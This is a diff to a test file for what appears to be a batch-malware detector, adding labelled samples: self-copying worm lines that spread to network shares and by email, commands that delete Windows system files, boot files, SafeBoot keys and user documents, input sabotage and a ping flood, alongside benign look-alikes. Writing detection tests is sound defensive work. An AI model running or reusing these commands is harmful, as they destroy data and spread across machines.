@@ -43,14 +43,23 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
     ("BAT-009", BAT, 'copy %0 "c:\\program files\\kazaa\\my shared folder\\crack.bat"\n'),
     ("BAT-009", VBS, 'fso.CopyFile WScript.ScriptFullName, pf & "\\LimeWire\\Shared\\key.vbs"'),
     ("BAT-010", BAT, "for /f %%h in (hosts.txt) do copy %0 \\\\%%h\\c$\\start.bat\n"),
+    ("BAT-002", BAT, "for %%x in (*.*) do copy /y %0 %%x >nul\n"),
+    (
+        "BAT-012",
+        BAT,
+        "for /f %%m in ('net view ^| find \"\\\\\"') do copy %0 %%m\\c$\\autoexec.bat\n",
+    ),
+    ("BAT-013", BAT, "blat readme.txt -to friend@example.net -attach %0\n"),
     ("BAT-011", BAT, 'find "qz"<%0>c:\\qz.bat\nfor %%f in (*.bat) do call c:\\qz %%f\n'),
     # damage
     ("BAT-020", BAT, "deltree /y c:\\windows\n"),
     ("BAT-020", BAT, "rd /s /q %systemroot%\n"),
     ("BAT-020", BAT, "del /f /s /q c:\\*.* >nul\n"),
+    ("BAT-020", BAT, "del /q %windir%\\system32\\*.dll\n"),
     ("BAT-020", VBS, 'b.WriteLine "@deltree /y c:\\ > nul"'),
     ("BAT-021", BAT, "del /s /q *.doc *.xls *.jpg\n"),
     ("BAT-021", BAT, "del /f *.mp3\ndel /f *.avi\ndel /f *.jpeg\n"),
+    ("BAT-021", BAT, 'for /r c:\\ %%f in (*.doc *.jpg) do del /q "%%f"\n'),
     ("BAT-022", BAT, "ren c:\\windows\\*.exe *.old\nren c:\\windows\\*.dll *.old\n"),
     ("BAT-023", BAT, 'rd /s /q "c:\\program files\\mcafee"\n'),
     ("BAT-023", BAT, "del c:\\progra~1\\norton~1\\*.dat\n"),
@@ -82,6 +91,18 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
         "echo 127.0.0.1 www.kaspersky.com>>%windir%\\system32\\drivers\\etc\\hosts\n",
     ),
     ("BAT-033", BAT, "assoc .exe=txtfile\n"),
+    ("BAT-034", BAT, "attrib -h -s -r c:\\ntldr\ndel /f /q c:\\ntldr\n"),
+    ("BAT-034", BAT, "del %windir%\\system32\\hal.dll\n"),
+    ("BAT-035", BAT, "for %%a in (*.*) do type nul > %%a\n"),
+    ("BAT-035", BAT, 'for /r c:\\users %%a in (*) do copy /y nul "%%a"\n'),
+    ("BAT-036", BAT, "rundll32 user32,SwapMouseButton\n"),
+    ("BAT-036", BAT, "rundll32 keyboard,disable\n"),
+    (
+        "BAT-037",
+        BAT,
+        "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Control\\SafeBoot /f\n",
+    ),
+    ("BAT-038", BAT, "ping -n 1000 -l 65500 198.51.100.7\n"),
     # droppers and persistence
     (
         "BAT-040",
@@ -180,4 +201,10 @@ BENIGN: tuple[tuple[Lang, str], ...] = (
     (BAT, "net stop w3svc\nnet start w3svc\n"),
     # removing a product's own scheduled updater, killing a stuck editor
     (BAT, "taskkill /f /im notepad.exe\n"),
+    # restarting the shell, hashing every file, a path MTU test, listing files
+    (BAT, "taskkill /f /im explorer.exe\nstart explorer.exe\ndel explorer.exe.bak\n"),
+    (BAT, "for %%f in (*.*) do certutil -hashfile %%f SHA256 > %%~nf.sha\n"),
+    (BAT, "ping -f -l 1472 198.51.100.7\n"),
+    (BAT, "for %%f in (*.*) do echo %%f >> list.txt\nnet view\n"),
+    (BAT, "del /q %windir%\\system32\\LogFiles\\*.log\n"),
 )
